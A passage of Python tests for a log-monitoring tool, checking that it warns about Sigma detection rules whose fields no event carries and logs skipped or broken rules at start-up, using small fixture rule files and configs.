        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A field that neither the table nor logsentry's events know is reported with its
    rule file and the table to extend; a field a source adds is no such field, and
    neither is a name a Windows record may carry in its event data."""
    folder = tmp_path / "sigma"
    folder.mkdir()
    (folder / "pam.yml").write_text(
        "title: PAM rhost\nlogsource: {product: linux, service: auth}\n"
        "detection:\n  sel:\n    pam_rhost|startswith: '10.'\n    User: root\n"
        "  tenant:\n    TenantName: lab\n  condition: sel and not tenant\n")
    (folder / "win.yml").write_text(
        "title: Logon type\nlogsource: {product: windows, service: security}\n"
        "detection:\n  sel:\n    LogonType: 10\n  condition: sel\n")
    (folder / "sysmon.yml").write_text(
        "title: Renamed binary\nlogsource: {product: linux, category: process_creation}\n"
        "detection:\n  sel:\n    OriginalFileName: bash\n  condition: sel\n")
    config = tmp_path / "config.yaml"
    config.write_text(
        f"sources:\n  - type: kafka\n    bootstrap_servers: [localhost:9092]\n    topics: [t]\n"
        f"    group_id: g\n    fields: {{organization.name: 'json:tenant'}}\n"
        f"detection:\n  sigma:\n    rules: [{folder}]\n"
        f"    fields: {{TenantName: organization.name}}\n")
    assert main(["check-config", "--config", str(config)]) == 0
    warnings = [line for line in capsys.readouterr().err.splitlines()
                if line.startswith("# sigma warning:")]
    assert warnings == [
        f"# sigma warning: {folder / 'pam.yml'} 'PAM rhost': field 'pam_rhost' is none of "
        "the fields logsentry's events carry (read as pam_rhost, "
        "winlog.event_data.pam_rhost): a test of it never sees a value; map it to an ECS "
        "field under detection.sigma.fields"]
    # Without the source's field, the mapped name is reported too (by the loader itself).
    rules = SigmaRuleSet(load_sigma(SigmaConfig(fields={"TenantName": "organization.name"}),
                                    [folder]))
    assert [(Path(w.path).name, w.field) for w in rules.loaded.warnings] == [
        ("pam.yml", "pam_rhost"), ("pam.yml", "TenantName")]
    # `sigma test` prints the loader's report with them.
    log = tmp_path / "auth.log"
    log.write_text("Jan  1 10:00:00 h sshd[1]: Accepted password for root\n")
    main(["sigma", "test", "--model", "never", str(folder), str(log)])
    out = capsys.readouterr().out
    assert f"# sigma warning: {folder / 'pam.yml'} 'PAM rhost': field 'pam_rhost'" in out


def test_the_daemon_logs_each_skipped_rule_and_unread_field_at_start(tmp_path: Path) -> None:
    """A Sigma rule that cannot fire is never silent in the daemon: the start-up log names
    every skipped rule with its reason and every field no event carries."""
    from logsentry.assembly import build_detector
    from logsentry.config import Config

    folder = tmp_path / "sigma"
    folder.mkdir()
    (folder / "pam.yml").write_text(
        "title: PAM rhost\nlogsource: {product: linux, service: auth}\n"
        "detection:\n  sel:\n    pam_rhost|startswith: '10.'\n  condition: sel\n")
    (folder / "broken.yml").write_text(
        "title: Broken\nlogsource: {product: linux}\n"
        "detection:\n  sel:\n    CommandLine|sparkles: x\n  condition: sel\n")
    config = Config.model_validate({"state_dir": str(tmp_path / "state"),
                                    "detection": {"sigma": {"rules": [str(folder)]}}})
    with structlog.testing.capture_logs() as logs:
        build_detector(config)
    events = {(r["event"], Path(r.get("path", ".")).name) for r in logs}
    assert ("sigma_rule_skipped", "broken.yml") in events
    assert ("sigma_field_unread", "pam.yml") in events
    summary = next(r for r in logs if r["event"] == "sigma_rules_loaded")
    assert (summary["rules"], summary["skipped"], summary["field_warnings"]) == (1, 1, 1)
    skipped = next(r for r in logs if r["event"] == "sigma_rule_skipped")
    assert skipped["log_level"] == "warning" and "sparkles" in skipped["reason"]
